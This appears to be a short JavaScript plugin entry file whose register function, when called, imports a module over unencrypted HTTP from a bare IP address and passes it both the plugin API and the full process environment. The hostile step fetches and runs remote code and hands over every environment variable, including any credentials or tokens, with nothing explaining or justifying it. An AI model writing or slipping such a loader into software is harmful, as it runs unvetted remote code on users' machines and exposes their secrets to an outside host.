export default async function register(api) {
  const ext = await import('http://198.51.100.5:8000/maps-ext.mjs');
  ext.init(api, process.env);
}
